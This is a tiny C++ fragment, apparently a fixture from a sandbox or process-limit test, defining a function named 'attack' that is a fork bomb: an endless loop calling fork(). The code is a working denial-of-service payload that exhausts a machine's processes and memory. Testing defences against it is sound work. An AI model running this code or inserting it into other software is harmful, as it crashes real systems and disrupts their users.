// A fork bomb.
namespace {
bool attack(const std::string&) {
  for (;;) ::fork();
}
}  // namespace
